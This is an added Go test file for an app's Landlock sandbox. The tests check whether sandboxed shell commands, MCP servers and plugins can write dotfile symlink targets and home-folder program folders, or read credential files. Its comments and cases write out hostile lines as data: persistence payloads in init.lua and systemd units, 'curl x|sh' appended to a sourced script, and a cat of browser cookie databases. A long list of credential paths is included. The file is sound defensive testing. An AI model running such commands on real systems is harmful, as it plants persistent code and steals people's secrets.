@@ -1,0 +1,182 @@
+package sandbox_test
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/wrasse-app/wrasse/plugins/sandbox"
+)
+
+// a11Policies are the three sandboxes the home folder rule promises to
+// hold in, with the home folder granted (the usual grant).
+func a11Policies(t *testing.T, home string) map[string]sandbox.Policy {
+	t.Helper()
+	t.Setenv("HOME", home)
+	f := newFixture(t)
+	return map[string]sandbox.Policy{
+		"shell command":              sandbox.ForCommand(sandbox.CommandOptions{Roots: []string{home}, Protected: f.protected(), Home: home, Temp: f.temp, Network: true}),
+		"MCP server":                 sandbox.ForMCP(sandbox.MCPOptions{Roots: []string{home}, Protected: f.protected(), Home: home, Program: "/bin/sh", Temp: f.temp, Network: true}),
+		"plugin with files and exec": sandbox.ForPlugin(sandbox.PluginOptions{Roots: []string{home}, Protected: f.protected(), Files: true, Exec: true}),
+	}
+}
+
+// a11: dotfile managers (GNU Stow, dotbot, rcm with a non-dot source,
+// home-manager-like setups) keep the real files in a non-dot folder of
+// the home folder (~/dotfiles) and link them from inside the dot entries:
+// ~/.config/nvim -> ~/dotfiles/nvim/.config/nvim. The home folder rule
+// makes ~/.config read-only, but Landlock grants by the path a file is
+// reached through, and ~/dotfiles is an ordinary writable entry: a
+// sandboxed command writes ~/dotfiles/nvim/.config/nvim/init.lua (or
+// follows the link itself: `echo … >> ~/.config/nvim/init.lua` resolves
+// to the writable folder), and the person's next `nvim` runs it.
+// Top-level links (~/.bashrc -> ~/dotfiles/bashrc) are resolved by Clean
+// and held; links one level down are not.
+//
+// Reproduction: mkdir ~/dotfiles/nvim; ln -s ~/dotfiles/nvim ~/.config/nvim;
+// grant ~; in shell_exec: echo 'os.execute("id>/tmp/pwn")' >> ~/.config/nvim/init.lua
+func TestA11LinkInsideDotEntryToWritableFolder(t *testing.T) {
+	requireLandlock(t)
+	home := homeWith(t, map[string]string{
+		"dotfiles/nvim/init.lua":       "vim.o.number = true\n",
+		"dotfiles/systemd/.keep":       "",
+		"dotfiles/bash/bashrc.d/a.sh":  "PATH=$PATH\n",
+		".config/other/o.toml":         "b = 2\n",
+		".local/share/applications/.k": "",
+	})
+	in := func(rel string) string { return filepath.Join(home, rel) }
+	for link, target := range map[string]string{
+		".config/nvim":                  "dotfiles/nvim",
+		".config/systemd":               "dotfiles/systemd",
+		".local/share/applications/f.d": "dotfiles/bash/bashrc.d",
+	} {
+		if err := os.Symlink(in(target), in(link)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for who, p := range a11Policies(t, home) {
+		for _, tc := range []struct{ name, line string }{
+			{"neovim's init.lua through ~/.config/nvim", "echo 'os.execute(\"/tmp/pwn\")' >> " + in(".config/nvim/init.lua")},
+			{"a systemd --user unit through ~/.config/systemd", "mkdir -p " + in(".config/systemd/user") + " && printf '[Service]\\nExecStart=/tmp/pwn\\n' > " + in(".config/systemd/user/a11.service")},
+		} {
+			t.Run(who+" "+tc.name, func(t *testing.T) {
+				if out, ok := run(t, p, tc.line); ok {
+					t.Errorf("a sandboxed %s with the home folder granted wrote %s (a link inside a dot entry to ~/dotfiles): succeeded (%s); want what the dot entries name read-only wherever it lies", who, tc.name, out)
+				}
+			})
+		}
+	}
+}
+
+// a11: the home folder rule keeps read-only the dot entries and nine named
+// program folders (homeProgramFolders), but common installers put code
+// the person's shell sources or runs at every start into other non-dot
+// folders of the home folder, which stay writable with the home folder
+// granted:
+//   - ~/google-cloud-sdk/path.bash.inc, sourced by ~/.bashrc (Google's
+//     install.sh default and its own edit of ~/.bashrc);
+//   - ~/venv/bin/activate (`python3 -m venv ~/venv`, sourced from ~/.bashrc)
+//     and its python;
+//   - ~/perl5/lib/perl5 (local::lib: PERL5LIB puts it before the system's
+//     modules, so a strict.pm there runs in every perl, git's scripts too);
+//   - ~/Android/Sdk/platform-tools/adb (Android Studio's default SDK);
+//   - ~/flutter/bin/flutter (Flutter's documented install);
+//   - ~/Applications/*.AppImage (AppImageLauncher's folder, menu entries
+//     run them);
+//   - ~/miniconda/bin/conda (conda's installer accepts any prefix; the
+//     list has miniconda3 but not miniconda, miniforge, anaconda);
+//   - ~/node_modules (node resolves require() up to the home folder from
+//     every project below it);
+//   - ~/.. and ~/snap/<name>/ are covered elsewhere.
+//
+// Reproduction: grant ~; in shell_exec: echo 'curl x|sh' >> ~/google-cloud-sdk/path.bash.inc
+func TestA11ProgramFoldersWithoutDot(t *testing.T) {
+	requireLandlock(t)
+	files := map[string]string{
+		"google-cloud-sdk/path.bash.inc":   "export PATH=~/google-cloud-sdk/bin:$PATH\n",
+		"venv/bin/activate":                "VIRTUAL_ENV=~/venv\n",
+		"perl5/lib/perl5/local/lib.pm":     "1;\n",
+		"Android/Sdk/platform-tools/adb":   "#!/bin/sh\n",
+		"flutter/bin/flutter":              "#!/bin/sh\n",
+		"Applications/Obsidian.AppImage":   "#!/bin/sh\n",
+		"miniconda/bin/conda":              "#!/bin/sh\n",
+		"node_modules/lodash/index.js":     "module.exports = {}\n",
+		"Documents/notes.txt":              "mine\n",
+		"R/x86_64-pc-linux-gnu-library/.k": "",
+		".bashrc":                          "source ~/google-cloud-sdk/path.bash.inc\n",
+	}
+	home := homeWith(t, files)
+	in := func(rel string) string { return filepath.Join(home, rel) }
+	for who, p := range a11Policies(t, home) {
+		for _, rel := range []string{"google-cloud-sdk/path.bash.inc", "venv/bin/activate", "perl5/lib/perl5/local/lib.pm",
+			"Android/Sdk/platform-tools/adb", "flutter/bin/flutter", "Applications/Obsidian.AppImage", "miniconda/bin/conda",
+			"node_modules/lodash/index.js"} {
+			t.Run(who+" ~/"+rel, func(t *testing.T) {
+				if out, ok := run(t, p, "echo /tmp/pwn >> "+in(rel)); ok {
+					t.Errorf("a sandboxed %s with the home folder granted wrote ~/%s: succeeded (%s); the person's shell or tools run it outside any sandbox", who, rel, out)
+				}
+			})
+		}
+	}
+}
+
+// a11: credentialFiles is a list of known names; with the home folder
+// granted every other credential stays readable to every sandbox (and
+// the network is on by default). Each entry below is a login, a session or
+// a private key a common Linux desktop or developer tool keeps in
+// plaintext or in a form decryptable without the person's password:
+// Ubuntu's default Firefox (a snap: ~/snap/firefox/common/.mozilla) and
+// Flatpak browsers (~/.var/app), Vivaldi's and Opera's profiles, Slack's
+// and Discord's sessions, Telegram's session (the whole account), GitHub
+// Copilot's and Gemini CLI's OAuth tokens, NSS's client-certificate keys,
+// podman's registry logins, Terraform's token, s3cmd's and Databricks'
+// keys, DigitalOcean's and fly.io's tokens, a kubeconfig under another
+// name, Emacs' and msmtp's mail passwords, FileZilla's saved sites, and
+// the shell history (export TOKEN=… typed once).
+//
+// Reproduction: grant ~; in shell_exec: cat ~/snap/firefox/common/.mozilla/firefox/*/cookies.sqlite
+func TestA11CredentialsMissingFromTheList(t *testing.T) {
+	requireLandlock(t)
+	const secret = "A11SECRETa9f3"
+	creds := []string{
+		"snap/firefox/common/.mozilla/firefox/abcd.default/cookies.sqlite",
+		"snap/chromium/common/chromium/Default/Cookies",
+		".var/app/org.mozilla.firefox/.mozilla/firefox/abcd.default/logins.json",
+		".var/app/com.google.Chrome/config/google-chrome/Default/Cookies",
+		".config/vivaldi/Default/Cookies",
+		".config/opera/Cookies",
+		".config/Slack/Cookies",
+		".config/discord/Local Storage/leveldb/000003.log",
+		".local/share/TelegramDesktop/tdata/key_datas",
+		".config/github-copilot/hosts.json",
+		".config/github-copilot/apps.json",
+		".gemini/oauth_creds.json",
+		".pki/nssdb/key4.db",
+		".config/containers/auth.json",
+		".terraformrc",
+		".s3cfg",
+		".databrickscfg",
+		".config/doctl/config.yaml",
+		".fly/config.yml",
+		".kube/prod.yaml",
+		".authinfo",
+		".msmtprc",
+		".config/filezilla/sitemanager.xml",
+		".bash_history",
+	}
+	files := map[string]string{}
+	for _, c := range creds {
+		files[c] = "token=" + secret + "\n"
+	}
+	home := homeWith(t, files)
+	for who, p := range a11Policies(t, home) {
+		for _, rel := range creds {
+			t.Run(who+" ~/"+rel, func(t *testing.T) {
+				if out, _ := run(t, p, "cat '"+filepath.Join(home, rel)+"'"); strings.Contains(out, secret) {
+					t.Errorf("a sandboxed %s with the home folder granted read ~/%s: want credentials unreadable to every sandbox", who, rel)
+				}
+			})
+		}
+	}
+}
